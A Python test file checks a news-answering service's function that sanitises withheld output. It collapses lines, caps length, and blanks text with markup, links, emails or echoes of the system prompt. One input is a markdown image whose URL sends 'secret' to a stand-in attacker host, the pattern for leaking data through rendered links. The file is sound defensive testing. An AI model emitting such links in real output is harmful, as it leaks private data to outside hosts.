"""What is withheld is shown as far as it can do no harm."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from service.answering.checks.markup import has_markup
from service.answering.disclosure import disclosed
from service.answering.told import NOTHING_TOLD, Told

TOLD = Told("You answer questions from news articles, and prove every sentence.")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("About 120,000 troops are near the border.", "About 120,000 troops are near the border."),
        ("It fell,\nthey said.", "It fell, they said."),
        ("See ![x](http://evil.example/?q=secret).", ""),
        ("Visit evil.example/now today.", ""),
        ("Write to a@b.example.", ""),
        ("<b>Bold</b>", ""),
        ("So: you answer QUESTIONS from news articles and more.", ""),
        ("You answer questions from the news.", "You answer questions from the news."),
        ("word " * 200, ("word " * 200)[:300]),
    ],
)
def test_it_is_shown_where_it_has_no_markup_and_repeats_no_prompt(text: str, shown: str) -> None:
    assert disclosed(text, TOLD) == shown


@given(st.text(max_size=400))
def test_what_is_shown_is_one_short_line_without_markup(text: str) -> None:
    shown = disclosed(text, NOTHING_TOLD)
    assert len(shown) <= 300
    assert "\n" not in shown
    assert shown == "" or not has_markup(text)
